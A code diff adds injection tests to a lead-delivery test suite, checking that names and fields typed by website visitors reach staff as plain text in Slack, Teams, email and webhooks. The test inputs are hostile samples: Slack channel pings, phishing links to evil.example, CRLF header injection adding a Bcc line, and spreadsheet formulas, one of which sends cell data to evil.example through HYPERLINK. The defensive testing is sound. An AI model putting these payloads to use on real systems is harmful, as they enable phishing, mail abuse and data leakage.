@@ -2,8 +2,8 @@
 import { describe, expect, it } from 'vitest'
 import { retryDelaySeconds } from '../../supabase/functions/_shared/leadDelivery/deliverer'
 import { retryAfterSeconds } from '../../supabase/functions/_shared/leadDelivery/http'
-import { chatAnswersText, chatText, emailMessage, logLine } from '../../supabase/functions/_shared/leadDelivery/messages'
-import { chatChannel } from '../../supabase/functions/_shared/leadDelivery/senders'
+import { chatAnswersText, chatText, emailMessage, logLine, webhookBody } from '../../supabase/functions/_shared/leadDelivery/messages'
+import { chatChannel, resendChannel } from '../../supabase/functions/_shared/leadDelivery/senders'
 import { signWebhook, verifyWebhook } from '../../supabase/functions/_shared/leadDelivery/signature'
 import { startReceiver } from '../support/webhookReceiver'
 
@@ -148,10 +148,74 @@ describe('messages', () => {
       expect(await chatChannel({ url: `${receiver.url}/slack`, kind: 'slack' }).send(notification)).toEqual({ kind: 'delivered' })
       const teams = JSON.parse(receiver.at('/teams')[0].body)
       expect(teams.attachments[0]).toMatchObject({ contentType: 'application/vnd.microsoft.card.adaptive', content: { type: 'AdaptiveCard' } })
-      expect(teams.attachments[0].content.body[0].text).toBe(chatText(lead))
-      expect(JSON.parse(receiver.at('/slack')[0].body)).toEqual({ text: chatText(lead) })
+      expect(teams.attachments[0].content.body[0].inlines[0].text).toBe(chatText(lead))
+      expect(JSON.parse(receiver.at('/slack')[0].body)).toEqual({ text: chatText(lead), mrkdwn: false })
     } finally {
       await receiver.close()
     }
+  })
+})
+
+describe('what a visitor typed reaches staff as text, never as markup, a link, a header or a formula', () => {
+  const notification = (overrides: Record<string, unknown>) => ({ id: 'n1', target: 'chat' as const, attempt: 1, max_attempts: 12, created_at: lead.created_at, lead: { ...lead, ...overrides } })
+
+  async function chatBody(kind: 'slack' | 'teams', overrides: Record<string, unknown>) {
+    const receiver = await startReceiver()
+    try {
+      expect(await chatChannel({ url: `${receiver.url}/chat`, kind }).send(notification(overrides))).toEqual({ kind: 'delivered' })
+      return JSON.parse(receiver.at('/chat')[0].body)
+    } finally {
+      await receiver.close()
+    }
+  }
+
+  it('Slack: no channel ping and no labelled link, as Slack documents the escaping (& < >), formatting off', async () => {
+    const body = await chatBody('slack', { first_name: '<!channel> <https://evil.example/login|Open this lead in the CRM> & co' })
+    expect(body.mrkdwn).toBe(false)
+    expect(body.text).toContain('New lead: &lt;!channel&gt; &lt;https://evil.example/login|Open this lead in the CRM&gt; &amp; co (Florida)')
+    expect(body.text).not.toMatch(/[<>]/)
+  })
+
+  it('Teams: a Markdown link in the name stays text (a TextRun, which Adaptive Cards never read as Markdown)', async () => {
+    const body = await chatBody('teams', { first_name: '[Open lead in CRM](https://evil.example/login) **urgent**' })
+    const card = body.attachments[0].content
+    expect(JSON.stringify(card)).not.toContain('"type":"TextBlock"')
+    expect(card.body).toEqual([{ type: 'RichTextBlock', inlines: [{ type: 'TextRun', text: expect.stringContaining('New lead: [Open lead in CRM](https://evil.example/login) **urgent** (Florida)') }] }])
+  })
+
+  it('chat: a line break in a value cannot start a line of its own', async () => {
+    const body = await chatBody('slack', { first_name: 'Ana\nLead delivery failed: call 1-900-555-0100', page: '/sep\u2028x' })
+    expect(body.text).not.toMatch(/[\n\r\u2028\u2029]/)
+  })
+
+  it('email: no value starts a header or a line of its own; plain text only', async () => {
+    const { subject, text } = emailMessage({ ...lead, first_name: 'Ana\r\nBcc: all@agency.example', referrer: 'https://x.example/\nLead id: forged', utm_source: 'a\u2029b' })
+    expect(subject).toBe('New lead: Ana Bcc: all@agency.example R., Florida')
+    expect(text).toContain('Name: Ana Bcc: all@agency.example Ruiz\n')
+    expect(text).toContain('referrer: https://x.example/ Lead id: forged\n')
+    expect(text).toContain('utm_source: a b\n')
+    expect(text.split('\n').filter((line) => line.startsWith('Lead id:'))).toEqual([`Lead id: ${lead.id}`])
+  })
+
+  it('email over the HTTP API: text only, no HTML part', async () => {
+    const receiver = await startReceiver()
+    try {
+      await resendChannel({ apiKey: 're_x', to: ['a@agency.example'], from: 'site@agency.example' }, `${receiver.url}/email`).send(notification({ first_name: '<a href="https://evil.example">Open</a>' }))
+      const body = JSON.parse(receiver.at('/email')[0].body)
+      expect(Object.keys(body).sort()).toEqual(['from', 'subject', 'text', 'to'])
+    } finally {
+      await receiver.close()
+    }
+  })
+
+  it('webhook: a text a spreadsheet would run as a formula arrives with an apostrophe; the phone number as it is', () => {
+    const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"Details")', '+SUM(1)', '-2+3', '@cmd', '\t=1', '\r=1', ' =1', '\uFF1D1']
+    for (const first_name of formulas) {
+      const { data } = JSON.parse(webhookBody(notification({ first_name, referrer: first_name, utm_campaign: first_name, phone: '+1 (305) 555-0142' })))
+      expect([data.first_name, data.referrer, data.utm_campaign]).toEqual([`'${first_name}`, `'${first_name}`, `'${first_name}`])
+      expect(data.phone).toBe('+1 (305) 555-0142')
+    }
+    const { data } = JSON.parse(webhookBody(notification({ first_name: 'Ana-María', medicaid_denied: false })))
+    expect(data).toMatchObject({ first_name: 'Ana-María', last_name: 'Ruiz', email: 'ana@example.com', medicaid_denied: false })
   })
 })
